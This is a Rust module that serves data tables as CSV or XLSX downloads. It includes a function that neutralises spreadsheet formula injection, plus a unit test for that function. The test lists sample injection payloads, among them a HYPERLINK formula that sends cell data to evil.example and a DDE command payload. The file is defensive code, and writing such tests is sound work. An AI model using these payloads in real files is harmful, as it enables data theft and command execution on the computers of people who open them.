//! Tables served as files: CSV (UTF-8 with a byte-order mark) or XLSX.

use actix_web::HttpResponse;
use actix_web::http::header;
use rust_xlsxwriter::{Format, Workbook};

use crate::error::ApiError;

/// A titled table of text cells; cells that are whole numbers become numbers in XLSX.
pub struct Table {
    pub title: String,
    pub header: Vec<String>,
    pub rows: Vec<Vec<String>>,
}

/// The file formats exports offer.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FileFormat {
    Csv,
    Xlsx,
}

impl FileFormat {
    /// `?format=` wins; else an `Accept` naming CSV or XLSX; else none (JSON).
    pub fn pick(format: Option<&str>, accept: Option<&str>) -> Result<Option<FileFormat>, ApiError> {
        match format {
            Some("csv") => Ok(Some(FileFormat::Csv)),
            Some("xlsx") => Ok(Some(FileFormat::Xlsx)),
            Some("json") => Ok(None),
            Some(_) => Err(ApiError::field("format", "Must be one of: json, csv, xlsx.")),
            None => Ok(match accept {
                Some(a) if a.contains("text/csv") => Some(FileFormat::Csv),
                Some(a) if a.contains("spreadsheetml") => Some(FileFormat::Xlsx),
                _ => None,
            }),
        }
    }
}

/// A CSV cell that a spreadsheet will not run as a formula: text beginning with `=`, `+`,
/// `-`, `@`, a tab or a carriage return gets a leading `'` (OWASP's advice on CSV
/// injection); a number (`-5`, `+3.5`) stays a number.
pub fn defuse(cell: &str) -> std::borrow::Cow<'_, str> {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if risky && !is_number(cell) { format!("'{cell}").into() } else { cell.into() }
}

/// A plain decimal number, optionally signed: `-5`, `+3.5`, `42,2`.
fn is_number(cell: &str) -> bool {
    let digits = cell.strip_prefix(['+', '-']).unwrap_or(cell);
    let mut parts = digits.splitn(2, ['.', ',']);
    let whole = parts.next().unwrap_or("");
    let frac = parts.next();
    !whole.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && frac.is_none_or(|f| !f.is_empty() && f.bytes().all(|b| b.is_ascii_digit()))
}

impl Table {
    /// The response carrying this table as `file_stem.csv` or `file_stem.xlsx`.
    pub fn respond(&self, format: FileFormat, file_stem: &str) -> Result<HttpResponse, ApiError> {
        let (bytes, content_type, ext) = match format {
            FileFormat::Csv => (self.csv()?, "text/csv; charset=utf-8", "csv"),
            FileFormat::Xlsx => {
                (self.xlsx()?, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "xlsx")
            }
        };
        Ok(HttpResponse::Ok()
            .insert_header((header::CONTENT_TYPE, content_type))
            .insert_header((header::CONTENT_DISPOSITION, format!("attachment; filename=\"{file_stem}.{ext}\"")))
            .body(bytes))
    }

    /// UTF-8 with a byte-order mark, so spreadsheets read the Vietnamese correctly.
    fn csv(&self) -> Result<Vec<u8>, ApiError> {
        let io = |e: csv::Error| ApiError::internal(format!("csv: {e}"));
        let mut w = csv::Writer::from_writer("\u{feff}".as_bytes().to_vec());
        w.write_record(self.header.iter().map(|h| defuse(h).into_owned())).map_err(io)?;
        for row in &self.rows {
            let cells = row.iter().map(|c| defuse(c).into_owned()).chain(std::iter::repeat(String::new()));
            w.write_record(cells.take(self.header.len())).map_err(io)?;
        }
        w.into_inner().map_err(|e| ApiError::internal(format!("csv: {e}")))
    }

    /// A sheet with the title on top, a bold frozen header, numbers as numbers, fitted columns.
    fn xlsx(&self) -> Result<Vec<u8>, ApiError> {
        let fail = |e: rust_xlsxwriter::XlsxError| ApiError::internal(format!("xlsx: {e}"));
        let mut book = Workbook::new();
        let sheet = book.add_worksheet();
        let title = Format::new().set_bold().set_font_size(14);
        let head =
            Format::new().set_bold().set_background_color("#DDEBF7").set_border(rust_xlsxwriter::FormatBorder::Thin);
        sheet.write_string_with_format(0, 0, &self.title, &title).map_err(fail)?;
        for (c, h) in self.header.iter().enumerate() {
            sheet.write_string_with_format(2, c as u16, h, &head).map_err(fail)?;
        }
        for (r, row) in self.rows.iter().enumerate() {
            for (c, cell) in row.iter().enumerate() {
                let (r, c) = (r as u32 + 3, c as u16);
                match cell.parse::<i64>() {
                    Ok(n) if !cell.starts_with('0') || cell == "0" => {
                        sheet.write_number(r, c, n as f64).map_err(fail)?
                    }
                    _ => sheet.write_string(r, c, cell).map_err(fail)?,
                };
            }
        }
        sheet.set_freeze_panes(3, 0).map_err(fail)?;
        sheet.autofit();
        book.save_to_buffer().map_err(fail)
    }
}

#[cfg(test)]
mod tests {
    use super::defuse;

    #[test]
    fn formulas_are_defused_and_numbers_stay_numbers() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A2)",
            "\t=1",
            "\r=1",
            "-",
            "+",
        ] {
            assert_eq!(defuse(formula), format!("'{formula}"), "{formula:?}");
        }
        for kept in ["-5", "+3.5", "42,2", "0", "Nguyễn Văn A", "2024-000123", "a=b", ""] {
            assert_eq!(defuse(kept), kept);
        }
    }
}
